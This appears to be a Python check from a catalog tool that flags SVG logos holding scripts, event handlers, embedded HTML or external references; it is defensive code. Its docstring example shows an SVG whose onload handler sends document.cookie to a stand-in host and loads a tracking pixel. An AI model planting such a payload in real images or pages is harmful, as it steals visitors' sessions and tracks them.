"""An SVG logo with scripts, event handlers, `foreignObject` or external references.

What it finds: a customer's SVG logo, or a reference's SVG story image (`image:`),
that holds a `<script>` element, an event-handler attribute (`onload`, `onclick`,
...), a `<foreignObject>` (HTML inside the image), a `javascript:` or `data:` link,
or a reference to anything outside the file: an image, stylesheet or font on another
server (`https://...`, `//host/...`, `@import`), or another file next to it.

Why it matters: an SVG is a document, not just a picture. Opened on its own, its
script runs on the catalog's website, where it could read what visitors see (on the
internal catalog: every contact and note); an external image tells someone else's
server who looks at the catalog, and when. refcat only ever publishes the logo as a
sanitizer leaves it, with all of these removed; this warning says the published logo
differs from the file, and that the file came from somewhere it should not have.

Example:
    <svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://x.example/?'+document.cookie)">
      <image href="https://tracker.example/pixel.png" width="1" height="1"/>
    </svg>

Fix: ask the customer (or the design team) for a plain SVG export, or open the file
in an editor and save it as "plain SVG" without scripts, links and embedded HTML.
"""

from collections.abc import Iterator
from datetime import date

from refcat.checks.catalog import Catalog
from refcat.checks.facts import about_customer, about_reference
from refcat.checks.finding import Fact
from refcat.checks.policy import Policy

NAME = "unsafe-logo"
KIND = "warning"
LABEL = "Unsafe logo"
ABOUT = "publication"
HINT = "Replace it with a plain SVG export; only the sanitized logo is published"
IMAGE_HINT = "Replace it with a plain SVG export; only the sanitized image is published"


def check(catalog: Catalog, policy: Policy, as_of: date) -> Iterator[Fact]:
    for customer in catalog.customers.values():
        logo = customer.logo
        if logo is not None and logo.unsafe:
            message = f"Logo {customer.customer.logo} holds {_listed(logo.unsafe)}"
            refs = catalog.references_of(customer.customer.id)
            yield about_customer(customer, refs, ("logo",), message, HINT)
    for record in catalog.references.values():
        image = record.image
        if image is not None and image.unsafe and record.reference.image is not None:
            written = record.reference.image.path
            message = f"Story image `image:` {written} holds {_listed(image.unsafe)}"
            yield about_reference(record, ("image",), message, IMAGE_HINT)


def _listed(parts: tuple[str, ...]) -> str:
    """`a, b and c`: the parts as a sentence lists them."""
    if len(parts) == 1:
        return parts[0]
    return f"{', '.join(parts[:-1])} and {parts[-1]}"
